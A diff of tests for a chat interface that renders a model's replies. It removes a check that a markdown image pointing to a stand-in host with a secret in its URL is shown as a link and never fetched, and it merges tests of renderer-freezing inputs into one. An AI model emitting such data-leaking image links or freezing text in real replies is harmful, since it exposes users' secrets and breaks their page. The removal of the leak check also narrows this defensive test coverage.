@@ -66,39 +66,12 @@ describe('the text of a model', () => {
     ).toEqual([]);
   });
 
-  it('shows a remote image as a link', async () => {
+  it('is shown as plain text when it takes too long to format, and the page stays usable', async () => {
     const { page } = await aChatter(app);
-    const foreign = foreignRequests(page);
-    llm.next(answersWith('![a chart](https://evil.test/?q=SECRET)'));
-    await say(page, 'Show me');
-    expect(await reply(page).getByRole('link', { name: 'a chart' }).getAttribute('href')).toBe(
-      'https://evil.test/?q=SECRET',
-    );
-    await settled(page);
-    expect(foreign).toEqual([]);
-  });
-
-  it('is shown as plain text when nested too deeply, and the page stays usable', async () => {
-    const { page } = await aChatter(app);
-    llm.next(answersWith(`${'>'.repeat(20_000)} deep`));
-    await say(page, 'How deep?');
-    await reply(page).getByText('> deep').waitFor();
-    llm.next(answersWith('Still here.'));
-    await say(page, 'Are you still there?');
-    await reply(page).getByText('Still here.').waitFor();
-  });
-
-  it.each([
-    ['emphasis that closes early', '_a*'.repeat(8_000)],
-    ['an address with marks behind it', `http://a${'!'.repeat(60_000)}a`],
-    ['emphasis that never closes', '*_'.repeat(30_000)],
-  ])('is shown as plain text when %s takes too long, and the page stays usable', async (_, text) => {
-    const { page } = await aChatter(app);
-    llm.next(answersWith(`${text}\nThe end.`));
+    llm.next(answersWith(`${'_a*'.repeat(8_000)}\nThe end.`), answersWith('Still here.'));
     await say(page, 'Freeze');
     await reply(page).getByText('The end.').waitFor();
     await reply(page).getByText('Shown as plain text').waitFor();
-    llm.next(answersWith('Still here.'));
     await say(page, 'Are you still there?');
     await reply(page).getByText('Still here.').waitFor();
   });
